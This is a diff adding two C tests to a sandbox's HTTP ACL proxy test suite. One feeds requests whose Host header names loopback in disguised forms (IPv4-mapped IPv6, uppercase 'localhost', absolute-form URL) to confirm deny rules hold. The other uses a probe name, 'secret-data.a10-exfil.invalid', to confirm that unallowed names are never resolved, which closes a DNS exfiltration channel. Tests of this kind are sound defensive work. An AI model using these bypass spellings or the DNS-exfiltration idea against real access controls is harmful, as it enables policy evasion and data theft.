@@ -265,3 +265,48 @@ TEST(a10_upstream_reopen_does_not_leak)
 	if (grew > 32 * 1024)
 		th_fail(__FILE__, __LINE__, "the heap grew by %ld bytes", grew);
 }
+
+/* A deny rule names a host; the request names the same destination
+ * another way the Host check accepts (an IPv4-mapped IPv6 literal,
+ * "localhost" for the loopback, the address for a name): the deny rule
+ * still applies, whatever the spelling. */
+TEST(a10_deny_rule_host_aliases)
+{
+	struct a10srv *w = a10_start(A10_CLOSE_AFTER);
+	const char *port = tc_itoa(w->port);
+	sandlock_sandbox_t *p = a10_acl(w->port, "allow:* */*", "deny:* 127.0.0.1/admin/*",
+					"deny:* localhost/priv/*", NULL);
+	const char *tricks[] = {
+	    A10_GET("/admin/x", "[::ffff:127.0.0.1]"),
+	    A10_GET("/admin/x", "[::ffff:7f00:1]"),
+	    A10_GET("/admin/x", "localhost"),
+	    A10_GET("/admin/x", "LOCALHOST"),
+	    A10_GET("/priv/x", "127.0.0.1"),
+	    A10_GET("/priv/x", "[::ffff:127.0.0.1]"),
+	    "GET http://localhost/admin/x HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n",
+	};
+	for (size_t i = 0; i < sizeof(tricks) / sizeof(tricks[0]); i++) {
+		char *out = tc_named_in(p, "webprobe", "127.0.0.1", port, tricks[i], NULL);
+		if (strncmp(out, "403 ", 4) != 0)
+			th_fail(__FILE__, __LINE__, "%s: %s", tricks[i], out);
+	}
+	CHECK_EQ(atomic_load(&w->requests), 0);
+	char *out =
+	    tc_named_in(p, "webprobe", "127.0.0.1", port, A10_GET("/pub", "localhost"), NULL);
+	CHECK_STR(tc_line(out, 0), "200 ok");
+}
+
+/* A name no rule allows is refused by the rules before the proxy asks a
+ * resolver about it: the sandbox cannot make the supervisor send DNS
+ * queries of its choosing (a channel out past the network policy, and a
+ * wait the proxy's thread would spend for everyone). */
+TEST(a10_no_resolution_for_names_no_rule_allows)
+{
+	struct a10srv *w = a10_start(A10_CLOSE_AFTER);
+	sandlock_sandbox_t *p = a10_acl(w->port, "allow:GET 127.0.0.1/*", NULL);
+	char *out = tc_named_in(p, "webprobe", "127.0.0.1", tc_itoa(w->port),
+				A10_GET("/x", "secret-data.a10-exfil.invalid"), NULL);
+	CHECK(strstr(out, "403 Blocked by sandlock HTTP ACL policy: no http_allow rule matches") ==
+	      out);
+	CHECK_EQ(atomic_load(&w->requests), 0);
+}
